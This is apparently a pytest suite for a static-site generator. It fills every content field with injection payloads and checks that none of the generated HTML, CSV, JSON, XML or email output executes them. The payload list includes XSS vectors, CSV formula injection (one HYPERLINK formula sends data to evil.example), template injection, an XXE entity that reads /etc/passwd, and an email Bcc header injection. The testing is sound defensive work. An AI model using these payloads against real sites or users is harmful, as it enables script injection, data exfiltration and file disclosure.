"""What a stranger writes into a brief is words: every file of the output, read as its readers would, does nothing.

Each brief of one site holds one payload in every text that it has.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator

import pytest
from lxml import etree

from tests.active import ORDINARY, URL, acts
from tests.sites import NOW, SiteFolder, briefgen

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "＝1+1",
    "]]>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "</title></style></textarea></template><script>alert(1)</script>",
    "<img src=https://x.example onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<a href="java&#10;script:alert(1)">x</a>',
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "{{7*7}} {% include 'base.html' %} {# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "\u202egnp.exe\u2066",
    "\u2028alert(1)\u2029",
    "\ufeffalert(1)\u200b",
    "😀 \U000e0041",
    "\\u0001 \\\\u0001 \\x3cscript\\x3e",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?php echo 7*7 ?>",
    "&x; &#0; &#xD800;",
    '<noscript><p title="</noscript><img src=https://x.example onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=//x.example onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=https://x.example onerror=alert(1)>">',
    "```html\n<script>alert(1)</script>\n```",
    '![x"onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org/"onclick="alert(1))',
    "Subject: x\r\nBcc: evil@evil.example",
]
#: As OWASP lists them under "CSV Injection".
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def quoted(text: str) -> str:
    """The text in quotation marks, as YAML and JSON both read it."""
    return json.dumps(text, ensure_ascii=False).replace("\u2028", "\\u2028").replace("\u2029", "\\u2029")


def brief(number: int, payload: str) -> str:
    """A brief in which every text is the payload."""
    text, named = quoted(payload), quoted(f"{payload} {number}")
    return f"""---
title: {text}
id: b{number}
date: 2025-08-{number % 28 + 1:02}
summary:
  - {{text: {text}, id: one}}
  - {text}
why_it_matters: {text}
topics: [{named}]
actors: [{{actor: {named}, role: {text}, stance: {text}}}]
open_questions: [{{question: {text}, id: q, why: {text}}}, {{question: {text}, id: r, status: dropped}}]
events: [{{date: 2025-08-01, what: {text}, actors: [{named}]}}]
sources: [{{title: {text}, id: s}}, {{title: {text}, url: "https://example.org/'a{number}?b=(c)&d", id: t}}]
updates: [{{date: 2025-08-30, kind: correction, bullet: one, was: {text}, note: {text}}}]
answers: [{{question: "first#q", answer: {text}, outcome: partly}}]
---
{payload}

> {payload}

- {payload}

| a | b |
|---|---|
| {payload.replace("|", "")} | x |

## {payload}

Fell.[^s] See [x](https://example.org/ "{payload}").
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> SiteFolder:
    site = SiteFolder(tmp_path_factory.mktemp("hostile"))
    worst = quoted("</script>\"'><img src=https://x.example onerror=alert(1)>]]>{{7*7}}")
    site.write(
        "briefgen.yaml",
        f"title: {worst}\ndescription: {worst}\nauthor: {worst}\nnav: [{{title: {worst}, url: https://x.example}}]\n"
        f"url: {URL}\nsite_id: urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6\nembeds: true\nper_page: 10\n",
    )
    site.brief("first", "id: first\nopen_questions: [{question: 'Who?', id: q}]", date="2025-01-01")
    for number, payload in enumerate(PAYLOADS):
        named, alias = quoted(f"{payload} {number}"), quoted(f"{payload} alias {number}")
        for path, text in {
            "briefs/b": brief(number, payload),
            "actors/a": f"---\nname: {named}\naliases: [{alias}]\nroles: [{named}]\n---\n{payload}\n",
            "topics/t": f"---\ntitle: {named}\ndefinition: {named}\n---\n{payload}\n",
            "stories/s": f"---\ntitle: {named}\n---\n{payload}\n",
        }.items():
            site.write(f"content/{path}{number}.md", text.encode())
    run = site.build()
    assert 0 == run.code, run.err
    return site


def built(site: SiteFolder, ending: str) -> dict[str, str]:
    """The files of the output whose names end so."""
    found = {path: data.decode() for path, data in site.files().items() if path.endswith(ending)}
    assert found
    return found


def test_no_page_does_anything(hostile: SiteFolder) -> None:
    found = {path: acts(page) for path, page in built(hostile, ".html").items()}
    assert {} == {path: what for path, what in found.items() if what}


def test_what_would_act_is_seen(hostile: SiteFolder) -> None:
    """The test above could see it."""
    for html in (
        "<script>x</script>",
        "<script src=//evil.example/x.js></script>",
        "<b onclick=x>",
        "<a href=' java\nscript:x'>",
        "<img src=data:x>",
        "<svg><a xlink:href=javascript:x>",
        "<iframe src=https://evil.example/>",
        "<base href=https://evil.example/>",
        "<b style='background: url(//evil.example)'>",
        "<meta http-equiv=Refresh content='0;url=//evil.example'>",
    ):
        assert acts(html), html


def test_templates_in_texts_are_text(hostile: SiteFolder) -> None:
    number = PAYLOADS.index("{{7*7}} {% include 'base.html' %} {# x #}")
    assert PAYLOADS[number] in hostile.shows(f"briefs/b{number}")
    assert "49" not in hostile.shows(f"briefs/b{number}")


def test_no_cell_of_a_table_is_a_formula(hostile: SiteFolder) -> None:
    for path, table in built(hostile, ".csv").items():
        cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
        assert (path, []) == (path, [cell for cell in cells if cell.startswith(FORMULA)])


def test_no_cell_of_a_list_is_a_formula(hostile: SiteFolder) -> None:
    for what in ("briefs", "actors", "topics", "stories", "questions"):
        run = briefgen(hostile.root, "list", what, "--format", "csv", "--now", NOW)
        cells = [cell for row in csv.reader(io.StringIO(run.out, newline="")) for cell in row]
        assert (0, []) == (run.code, [cell for cell in cells if cell.startswith(FORMULA)])


def strings(value: object, key: str = "") -> Iterator[tuple[str, str]]:
    """Each text in the JSON value, with the key that it stands under."""
    match value:
        case str():
            yield key, value
        case list():
            for one in value:
                yield from strings(one, key)
        case dict():
            for name, one in value.items():
                yield from strings(one, name)


def test_data_is_json_and_the_html_in_it_does_nothing(hostile: SiteFolder) -> None:
    seen = set()
    for path, written in built(hostile, ".json").items():
        for key, text in strings(json.loads(written)):
            if "html" in key:
                seen.add(key)
                assert (path, []) == (path, acts(text))
            if "url" in key:
                assert ORDINARY.match(text), (path, text)
    assert seen


def test_feeds_are_xml_without_entities_and_their_html_does_nothing(hostile: SiteFolder) -> None:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    for path, written in built(hostile, ".xml").items():
        assert "<!DOCTYPE" not in written.partition("\n")[2][:200]
        for element in etree.fromstring(written.encode(), parser).iter():
            assert ORDINARY.match(str(element.get("href", ""))), path
            if element.get("type") == "html":
                assert (path, []) == (path, acts(element.text or ""))


def test_a_digest_does_nothing(hostile: SiteFolder) -> None:
    html = briefgen(hostile.root, "digest", "--since", "60d", "--format", "html", "--now", NOW)
    assert 0 == html.code
    assert [] == [what for what in acts(html.out) if " style=" not in what]
    mail = briefgen(hostile.root, "digest", "--since", "60d", "--format", "eml", "--now", NOW)
    head = mail.out.partition("\n\n")[0]
    assert "Bcc" not in head


@pytest.mark.parametrize("sign", [r"\uD800", r"\uDFFF", r"\uD83D x", r"\0", r"\x1b", r"\uFFFE", r"\x85"])
def test_what_no_page_can_hold_is_refused(site: SiteFolder, sign: str) -> None:
    site.write("content/briefs/ash.md", f'---\ntitle: "Ash {sign}"\ndate: 2025-08-22\nsummary: [It fell.]\n---\n')
    run = site.build()
    assert 1 == run.code
    assert re.match(r"content/briefs/ash\.md:2:\d+: error: ", run.err)
    assert not (site.root / "output").exists()
